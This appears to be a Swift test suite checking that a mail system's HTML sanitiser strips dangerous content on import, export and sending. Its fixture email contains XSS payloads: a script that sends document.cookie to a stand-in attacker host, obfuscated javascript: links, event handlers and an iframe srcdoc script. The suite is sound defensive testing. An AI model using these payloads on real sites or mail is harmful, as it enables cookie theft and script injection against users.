import Foundation
import MailCore
import MailDomain
@testable import MailStore
import MailTesting
import Testing
@testable import MailWorker

/// The sanitised HTML copy end to end: real Dovecot → import → Postgres → `mailroom export`, and
/// the send worker filling it for emails queued through SQL.
@Suite struct SanitizedHTMLTests {
    static let maliciousHTML = """
        <html><head><meta http-equiv="refresh" content="0;url=https://evil.test/"><style>body{display:none}</style>\
        <script>document.location='https://evil.test/?c='+document.cookie</script></head>\
        <body onload="alert(1)"><h1>Invoice 4711</h1>\
        <p style="color: #333; position: fixed; background: url(javascript:alert(2))">Please see <a href="jav&#x09;ascript:alert(3)">the invoice</a> \
        or <a href="https://billing.example.test/i/4711">pay online</a>.</p>\
        <img src="https://track.example.test/open.gif?u=7" onerror="alert(4)" alt="pixel"><img src="cid:logo@x" alt="logo">\
        <iframe srcdoc="&lt;script&gt;alert(5)&lt;/script&gt;"></iframe><svg onload="alert(6)"></svg></body></html>
        """

    static func message(id: String) -> [UInt8] {
        TestMessages.crlf("""
            From: Mallory <mallory@evil.test>
            To: Support <support@acme.test>
            Subject: Invoice 4711
            Date: Mon, 07 Dec 2026 09:00:00 +0000
            Message-ID: <\(id)>
            MIME-Version: 1.0
            Content-Type: multipart/alternative; boundary="alt"

            --alt
            Content-Type: text/plain; charset=utf-8

            Invoice 4711: pay online.
            --alt
            Content-Type: text/html; charset=utf-8

            \(maliciousHTML)
            --alt--

            """)
    }

    private func stored(_ f: WorkerFixture, _ tenant: TenantID, _ messageID: String) async throws -> (original: String, safe: String) {
        try await f.query(tenant) { conn in
            let row = try conn.query("SELECT body_html, body_html_safe FROM email WHERE message_id = \(messageID)").one()
            return (try row.decode(String.self, at: 0), try row.decode(String.self, at: 1))
        }
    }

    private func expectSafe(_ safe: String) {
        let lower = safe.lowercased()
        #expect(!lower.contains("<script"))
        #expect(!lower.contains("javascript"))
        #expect(!lower.contains("onload") && !lower.contains("onerror"))
        #expect(!lower.contains("<iframe") && !lower.contains("<svg") && !lower.contains("<meta") && !lower.contains("<style"))
        #expect(!lower.contains("position"))
        #expect(safe.contains("<h1>Invoice 4711</h1>"))
        #expect(safe.contains("<a href=\"https://billing.example.test/i/4711\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">pay online</a>"))
        #expect(safe.contains("<a>the invoice</a>"))
        #expect(safe.contains("style=\"color: #333\""))
        #expect(safe.contains("<img src=\"cid:logo@x\" alt=\"logo\">"))
    }

    @Test func importStoresTheOriginalAndTheSanitisedCopy() async throws {
        let f = try await WorkerFixture.make()
        let box = try f.server.createMailbox(prefix: "html-allow")
        try f.server.deliverToMaildir(box, messages: [Self.message(id: "evil-allow@evil.test")])
        let (tenant, slug) = try await f.tenant("html-allow", accounts: [.init(name: "Support", mailbox: box)])

        let reports = try await f.importAll(tenant)
        #expect(reports.reduce(0) { $0 + $1.imported } == 1)
        let (original, safe) = try await stored(f, tenant, "evil-allow@evil.test")
        #expect(original.contains("<script>document.location"))
        #expect(original.contains("onload=\"alert(1)\""))
        expectSafe(safe)
        // 'allow' (the default) keeps remote images.
        #expect(safe.contains("<img src=\"https://track.example.test/open.gif?u=7\" alt=\"pixel\">"))

        // Export hands out the sanitised copy; the original only when asked for.
        let export = try await MailroomBinary.run(["export", "--tenant", slug])
        #expect(export.status == 0, "\(export.stderr)")
        let email = try Self.emails(export.stdout).first
        #expect(email?["body_html"] as? String == safe)
        #expect(email?["body_html_original"] == nil)
        #expect(!export.stdout.contains("<script"))
        let withOriginal = try await MailroomBinary.run(["export", "--tenant", slug, "--original-html"])
        #expect(withOriginal.status == 0, "\(withOriginal.stderr)")
        let full = try Self.emails(withOriginal.stdout).first
        #expect(full?["body_html"] as? String == safe)
        #expect(full?["body_html_original"] as? String == original)
    }

    @Test func blockedRemoteImagesKeepTheirURLInADataAttribute() async throws {
        let f = try await WorkerFixture.make()
        let box = try f.server.createMailbox(prefix: "html-block")
        try f.server.deliverToMaildir(box, messages: [Self.message(id: "evil-block@evil.test")])
        let (tenant, _) = try await f.tenant("html-block", accounts: [.init(name: "Support", mailbox: box)])
        try await f.query(tenant) { try TenantQueries.tenantSetRemoteImages($0, tenant: tenant, .block) }

        _ = try await f.importAll(tenant)
        let (_, safe) = try await stored(f, tenant, "evil-block@evil.test")
        expectSafe(safe)
        #expect(safe.contains("<img data-blocked-src=\"https://track.example.test/open.gif?u=7\" alt=\"pixel\">"))
        #expect(!safe.contains(" src=\"https://track"))
    }

    @Test func exportSanitisesOnTheFlyWhenNoCopyIsStored() async throws {
        let f = try await WorkerFixture.make()
        let (tenant, slug) = try await f.tenant("html-null", accounts: [])
        try await f.query(tenant) { conn in
            try TenantQueries.tenantSetRemoteImages(conn, tenant: tenant, .block)
            // As the CRM's own insert would leave it: HTML without a sanitised copy.
            try conn.execute("""
                INSERT INTO email (tenant_id, message_id, subject, body_html)
                VALUES (\(tenant), 'crm-insert@acme.test', 'From the CRM', \(Self.maliciousHTML))
                """)
        }
        let export = try await MailroomBinary.run(["export", "--tenant", slug])
        #expect(export.status == 0, "\(export.stderr)")
        let safe = try #require(try Self.emails(export.stdout).first?["body_html"] as? String)
        expectSafe(safe)
        #expect(safe.contains("data-blocked-src=\"https://track.example.test/open.gif?u=7\""))
    }

    @Test func theSendWorkerFillsTheCopyOfAQueuedEmail() async throws {
        let s = try await SendingFixture.make()
        let support = try s.f.server.createMailbox(prefix: "html-send")
        let customer = try s.f.server.createMailbox(prefix: "html-send-customer")
        let tenant = try await s.tenant("html-send", accounts: [s.account("Support", support)])
        let alice = try await s.user(tenant, "alice"), account = try await s.accountID(tenant, "Support")
        let id = try await s.queue(tenant, EmailDraft(account: account, user: alice, to: [customer.address], subject: "Re: Invoice",
                                                      text: "Invoice 4711", html: Self.maliciousHTML))
        let before: String? = try await s.f.query(tenant) { try $0.query("SELECT body_html_safe FROM email WHERE id = \(id)").one().decode(at: 0) }
        #expect(before == nil)
        #expect(try await s.runSends(tenant).isEmpty)
        #expect(try await s.status(tenant, id).status == "Sent")
        let (original, safe): (String, String) = try await s.f.query(tenant) {
            let row = try $0.query("SELECT body_html, body_html_safe FROM email WHERE id = \(id)").one()
            return (try row.decode(at: 0), try row.decode(at: 1))
        }
        #expect(original == Self.maliciousHTML)
        expectSafe(safe)
    }

    @Test func anUnknownRemoteImagesValueIsRefused() async throws {
        let f = try await WorkerFixture.make()
        let (tenant, _) = try await f.tenant("html-check", accounts: [])
        let error = await #expect(throws: PostgresError.self) {
            try await f.query(tenant) { try $0.execute("UPDATE tenant SET remote_images = 'sometimes' WHERE id = \(tenant)") }
        }
        #expect(error?.constraint?.contains("tenant_remote_images_check") == true || error?.sqlState == "23514")
        #expect(throws: PostgresError.self) { try TenantQueries.remoteImagePolicy("sometimes") }
        #expect(try TenantQueries.remoteImagePolicy("block") == .block)
    }

    static func emails(_ stdout: String) throws -> [[String: Any]] {
        let json = try JSONSerialization.jsonObject(with: Data(stdout.utf8)) as? [String: Any]
        return json?["emails"] as? [[String: Any]] ?? []
    }
}
